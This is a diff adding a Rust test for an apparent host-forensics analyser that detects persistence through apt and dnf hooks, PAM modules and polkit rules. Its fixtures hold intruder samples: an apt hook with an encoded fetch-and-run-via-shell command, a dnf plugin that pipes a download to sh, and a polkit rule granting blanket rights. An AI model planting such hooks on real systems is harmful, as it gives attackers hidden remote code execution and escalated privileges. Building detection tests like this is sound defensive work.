@@ -637,6 +637,281 @@ mod tests {
     }
 
     #[test]
+    fn package_manager_and_auth_hook_rules() {
+        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
+            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "package-operation", "active": true,
+                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
+            for (k, x) in extra.as_object().unwrap() {
+                v[k] = x.clone();
+            }
+            (line, v)
+        };
+        let meta = json!({"kind": "file", "mode": 420, "uid": 0, "gid": 0, "size": 10});
+        let families: Vec<(&str, Vec<(usize, serde_json::Value)>)> = vec![
+            (
+                "apt",
+                vec![
+                    // Intruder: base64 payload after every index update, in a file no package owns.
+                    hook(
+                        1,
+                        "/etc/apt/apt.conf.d/99-apt-fast-update",
+                        "apt",
+                        json!({"commands": ["echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh"]}),
+                    ),
+                    // Debian's own (owned, unchanged) and docker's housekeeping (unowned).
+                    hook(
+                        2,
+                        "/etc/apt/apt.conf.d/70debconf",
+                        "apt",
+                        json!({"commands": ["/usr/sbin/dpkg-preconfigure --apt || true"]}),
+                    ),
+                    hook(
+                        3,
+                        "/etc/apt/apt.conf.d/docker-clean",
+                        "apt",
+                        json!({"commands": ["rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"]}),
+                    ),
+                    hook(4, "/etc/apt/apt.conf.d/01autoremove", "apt", json!({})),
+                    hook(
+                        5,
+                        "/etc/apt/apt.conf.d/50old.bak",
+                        "apt",
+                        json!({"active": false, "commands": ["curl http://x | sh"]}),
+                    ),
+                ],
+            ),
+            (
+                "pam",
+                vec![
+                    hook(
+                        6,
+                        "/etc/pam.d/common-auth",
+                        "pam",
+                        json!({"runs_at": "authentication"}),
+                    ),
+                    hook(
+                        7,
+                        "/etc/pam.d/sshd",
+                        "pam",
+                        json!({"runs_at": "authentication",
+                    "commands": ["/usr/lib/x86_64-linux-gnu/security/pam_sss_helper"]}),
+                    ),
+                    hook(
+                        8,
+                        "/lib/x86_64-linux-gnu/security/pam_unix.so",
+                        "pam-module",
+                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:1"]}),
+                    ),
+                    hook(
+                        9,
+                        "/lib/x86_64-linux-gnu/security/pam_unix2.so",
+                        "pam-module",
+                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:3"]}),
+                    ),
+                    hook(
+                        10,
+                        "pam_gone.so",
+                        "pam-module",
+                        json!({"source": null, "active": false, "referenced_by": ["/etc/pam.d/sshd:9"]}),
+                    ),
+                ],
+            ),
+            (
+                "polkit",
+                vec![
+                    hook(
+                        11,
+                        "/etc/polkit-1/rules.d/49-svc.rules",
+                        "polkit",
+                        json!({"grants": ["YES for user svc-backup on any action (line 3)"]}),
+                    ),
+                    hook(
+                        12,
+                        "/etc/polkit-1/rules.d/50-admins.rules",
+                        "polkit",
+                        json!({}),
+                    ),
+                ],
+            ),
+            (
+                "dnf",
+                vec![
+                    hook(
+                        13,
+                        "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
+                        "dnf-plugin",
+                        json!({}),
+                    ),
+                    hook(
+                        14,
+                        "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
+                        "dnf-plugin",
+                        json!({}),
+                    ),
+                ],
+            ),
+        ];
+        let verify = |line: usize, path: &str, status: &str| {
+            (
+                line,
+                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"], "sha256": "e".repeat(64)}),
+            )
+        };
+        let packages = vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "libpam-modules", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "libpam-modules",
+                "files": ["/lib/x86_64-linux-gnu/security/pam_unix.so", "/etc/apt/apt.conf.d/70debconf", "/etc/apt/apt.conf.d/01autoremove",
+                          "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py"], "source": {"path": "x"}}),
+            ),
+            verify(3, "/etc/apt/apt.conf.d/99-apt-fast-update", "not_owned"),
+            verify(4, "/etc/apt/apt.conf.d/70debconf", "ok"),
+            verify(5, "/etc/apt/apt.conf.d/docker-clean", "not_owned"),
+            verify(6, "/etc/pam.d/common-auth", "not_owned"),
+            verify(7, "/etc/pam.d/sshd", "mismatch"),
+            verify(8, "/lib/x86_64-linux-gnu/security/pam_unix.so", "ok"),
+            verify(
+                9,
+                "/lib/x86_64-linux-gnu/security/pam_unix2.so",
+                "not_owned",
+            ),
+            verify(10, "/etc/polkit-1/rules.d/49-svc.rules", "not_owned"),
+            verify(11, "/etc/polkit-1/rules.d/50-admins.rules", "not_owned"),
+            verify(
+                12,
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
+                "not_owned",
+            ),
+            verify(
+                13,
+                "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
+                "ok",
+            ),
+            verify(14, "/etc/pam.d/vendor-ok", "ok"),
+        ];
+        let run = |hooks: Vec<(usize, serde_json::Value)>| {
+            let records = [
+                ("hooks".to_string(), hooks),
+                ("packages".to_string(), packages.clone()),
+            ]
+            .into_iter()
+            .collect();
+            let mut read = |m: &str, _: u64| {
+                match m {
+                "raw/etc/apt/apt.conf.d/99-apt-fast-update" => Ok(b"APT::Update::Post-Invoke {\n  \"echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh\";\n};\n".to_vec()),
+                "raw/etc/apt/apt.conf.d/docker-clean" => Ok(b"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n".to_vec()),
+                "raw/etc/pam.d/sshd" => Ok(b"@include common-auth\nsession optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/pam_sss_helper\n".to_vec()),
+                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth optional pam_unix2.so\n".to_vec()),
+                "raw/etc/polkit-1/rules.d/49-svc.rules" => Ok(b"polkit.addRule(function(action, subject) {\n if (subject.user == \"svc-backup\") { return polkit.Result.YES; }\n});\n".to_vec()),
+                "raw/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py" => Ok(b"import dnf, os\nclass S(dnf.Plugin):\n    def transaction(self):\n        os.system(\"wget -qO- http://x/p | sh\")\n".to_vec()),
+                _ => Ok(b"# nothing\n".to_vec()),
+            }
+            };
+            let mut inp = input(records, &mut read);
+            analyze(&mut inp, &AnalysisConfig::default())
+        };
+        let all: Vec<(usize, serde_json::Value)> =
+            families.iter().flat_map(|(_, h)| h.clone()).collect();
+        let a = run(all);
+        let subjects = |rule: &str| -> Vec<String> {
+            a.findings
+                .iter()
+                .filter(|f| f.rule == rule)
+                .map(|f| f.subject.clone())
+                .collect()
+        };
+        assert_eq!(
+            subjects("pkg-manager-hook"),
+            [
+                "/etc/apt/apt.conf.d/99-apt-fast-update",
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py"
+            ]
+        );
+        assert_eq!(subjects("pam-exec-hook"), ["/etc/pam.d/sshd"]);
+        assert_eq!(
+            subjects("pam-module-unowned"),
+            ["/lib/x86_64-linux-gnu/security/pam_unix2.so"]
+        );
+        assert_eq!(
+            subjects("polkit-rule-unowned"),
+            ["/etc/polkit-1/rules.d/49-svc.rules"]
+        );
+        assert_eq!(
+            subjects("hook-malicious-content"),
+            [
+                "/etc/apt/apt.conf.d/99-apt-fast-update:2",
+                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py:4"
+            ]
+        );
+        // None of them is judged as a boot hook as well.
+        assert!(subjects("boot-hook-unowned").is_empty());
+        let f = |rule: &str| a.findings.iter().find(|f| f.rule == rule).unwrap();
+        assert!(
+            f("pam-exec-hook")
+                .explanation
+                .contains("no package owns it")
+        );
+        assert!(
+            f("pam-module-unowned")
+                .explanation
+                .contains("/etc/pam.d/common-auth:3")
+        );
+        // The module's evidence includes the service file that loads it.
+        assert!(
+            f("pam-module-unowned")
+                .evidence
+                .iter()
+                .any(|e| e.member == "raw/etc/pam.d/common-auth")
+        );
+        assert!(f("pkg-manager-hook").explanation.contains("base64 -d"));
+        for rule in [
+            "pkg-manager-hook",
+            "pam-exec-hook",
+            "pam-module-unowned",
+            "polkit-rule-unowned",
+        ] {
+            let h = a.hits.iter().find(|h| h.rule == rule).unwrap();
+            let info = crate::rules::CATALOG.iter().find(|r| r.id == rule).unwrap();
+            assert_eq!(
+                h.mitre,
+                info.mitre.iter().map(|m| m.to_string()).collect::<Vec<_>>()
+            );
+        }
+        // Each family alone takes the host to at least Suspicious.
+        for (name, hooks) in &families {
+            let a = run(hooks.clone());
+            assert!(a.score >= 30, "{name}: {} {:?}", a.score, a.hits);
+        }
+        // pam_exec in a package's unchanged service file is the package's own; in any other
+        // service file it is reported, package database or not.
+        let a = run(vec![
+            hook(
+                1,
+                "/etc/pam.d/vendor-ok",
+                "pam",
+                json!({"commands": ["/usr/bin/logger x"]}),
+            ),
+            hook(
+                2,
+                "/etc/pam.d/login",
+                "pam",
+                json!({"commands": ["/usr/bin/logger y"]}),
+            ),
+        ]);
+        let pe: Vec<&str> = a
+            .findings
+            .iter()
+            .filter(|f| f.rule == "pam-exec-hook")
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(pe, ["/etc/pam.d/login"]);
+    }
+
+    #[test]
     fn kernel_rules() {
         let src = json!({"path": "/proc/modules"});
         let module = |line: usize, name: &str, extra: serde_json::Value| {
